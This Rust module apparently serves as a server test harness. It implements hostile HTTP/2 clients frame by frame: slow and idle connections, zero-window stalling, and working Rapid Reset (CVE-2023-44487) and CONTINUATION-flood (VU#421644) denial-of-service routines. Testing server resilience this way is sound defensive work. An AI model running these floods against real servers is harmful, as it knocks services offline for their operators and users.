//! What a hostile client does over HTTP/2, frame by frame (RFC 9113), until the server ends the connection.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::attacks::{send, until_closed};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const CANCEL: [u8; 4] = [0, 0, 0, 8];
const INITIAL_WINDOW_SIZE_0: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// Begins a connection, and asks for nothing.
pub(crate) async fn silent(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    until_closed(&mut connection).await
}

/// Asks once, and no longer answers whether it is there.
pub(crate) async fn gone(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    send(&mut connection, &get(1, "/")).await;
    until_closed(&mut connection).await
}

/// Asks for much on many streams, and has no room for a byte of it.
pub(crate) async fn no_window(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &INITIAL_WINDOW_SIZE_0).await;
    for stream in 0..20 {
        send(&mut connection, &get(2 * stream + 1, "/big")).await;
    }
    until_closed(&mut connection).await
}

/// Begins a body, and sends no more of it.
pub(crate) async fn no_body(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    let put = frame(HEADERS, END_HEADERS, 1, &head(0x83, "/"));
    send(&mut connection, &put).await;
    send(&mut connection, &frame(DATA, 0, 1, b"x")).await;
    until_closed(&mut connection).await
}

/// Asks and takes it back, together, again and again (CVE-2023-44487).
pub(crate) async fn rapid_reset(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    take_back(&mut connection, Duration::ZERO).await
}

/// Asks, waits until the server is at it, and takes it back.
pub(crate) async fn patient_reset(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    take_back(&mut connection, Duration::from_millis(1)).await
}

/// Sends a head that does not end, in pieces that count for nothing (VU#421644).
pub(crate) async fn continuations(mut connection: TcpStream) -> Vec<u8> {
    begin(&mut connection, &[]).await;
    send(
        &mut connection,
        &frame(HEADERS, END_STREAM, 1, &head(0x82, "/")),
    )
    .await;
    // A field without indexing: `x: x...`.
    let mut field = vec![0, 1, b'x', 100];
    field.resize(field.len() + 100, b'x');
    let pieces = frame(CONTINUATION, 0, 1, &field).repeat(100);
    let (mut reader, mut writer) = connection.split();
    let mut answer = Vec::new();
    let writing = async {
        while writer.write_all(&pieces).await.is_ok() {
            tokio::task::yield_now().await;
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        _ = reader.read_to_end(&mut answer) => {}
        () = writing => {}
    }
    answer
}

async fn take_back(connection: &mut TcpStream, wait: Duration) -> Vec<u8> {
    let (mut reader, mut writer) = connection.split();
    let mut answer = Vec::new();
    let writing = async {
        for stream in 0..100_000 {
            let stream = 2 * stream + 1;
            let mut asked = get(stream, "/wait");
            if !wait.is_zero() {
                if writer.write_all(&asked).await.is_err() {
                    break;
                }
                asked.clear();
                sleep(wait).await;
            }
            asked.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            if writer.write_all(&asked).await.is_err() {
                break;
            }
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        _ = reader.read_to_end(&mut answer) => {}
        () = writing => {}
    }
    answer
}

async fn begin(connection: &mut TcpStream, settings: &[u8]) {
    send(connection, PREFACE).await;
    send(connection, &frame(SETTINGS, 0, 0, settings)).await;
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &head(0x82, path))
}

/// A head: the method by its number in the static table (RFC 7541, appendix A), `http`, the path and the authority.
fn head(method: u8, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend(path.as_bytes());
    block.extend([0x01, 4]);
    block.extend(b"here");
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
